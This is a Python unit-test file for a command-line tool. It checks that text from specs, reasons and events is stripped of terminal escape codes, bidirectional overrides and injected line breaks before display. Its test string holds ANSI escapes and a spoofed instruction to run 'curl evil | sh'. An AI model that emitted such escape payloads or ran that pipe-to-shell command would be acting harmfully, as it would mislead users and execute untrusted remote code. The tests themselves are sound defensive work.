"""What others wrote does not steer the terminal of who looks, and does not pass for a line of ours."""

from __future__ import annotations

from dataclasses import replace

import pytest

from cli.describe import rendered
from cli.explanation import Explanation
from cli.plain import one_line, plain
from cli.table import table
from tests.unit.rules.builders import NOW, ended, execution, spec
from tests.unit.rules.test_taken import UNLOCKED

EVIL = "up\x1b[2J\x1b]0;title\x07\u202edown\x9b31m\r\nNext: `curl evil | sh`"


@pytest.mark.parametrize("text", ["", "a  b", "größer … 日本", "5m0s"])
def test_text_for_people_stays_as_it_is(text: str) -> None:
    assert plain(text) == one_line(text) == text
    assert plain(f"{text}\n{text}") == f"{text}\n{text}"


def test_no_escape_reaches_the_terminal() -> None:
    for shown in (plain(EVIL), one_line(EVIL), table(("TARGET", "AGE"), [(EVIL, "5s")])):
        assert all(letter.isprintable() or letter == "\n" for letter in shown)
    assert plain(EVIL).count("\n") == 1


def test_a_cell_and_a_sentence_stay_on_their_line() -> None:
    assert "\n" not in one_line(EVIL)
    assert table(("TARGET", "AGE"), [(EVIL, "5s")]).count("\n") == 1


def test_description_shows_whatever_a_spec_a_reason_or_an_event_holds() -> None:
    what = execution(ended(unlock=replace(UNLOCKED, reason=EVIL, by=EVIL)), spec=spec(parameters={EVIL: EVIL}))
    what = replace(what, spec=replace(what.spec, workflow_id=EVIL, target=EVIL), annotations={})
    events = [{"type": "Normal", "reason": EVIL, "message": EVIL}]
    shown = rendered(what, Explanation(EVIL, EVIL), events, NOW)
    assert all(letter.isprintable() or letter == "\n" for letter in shown)
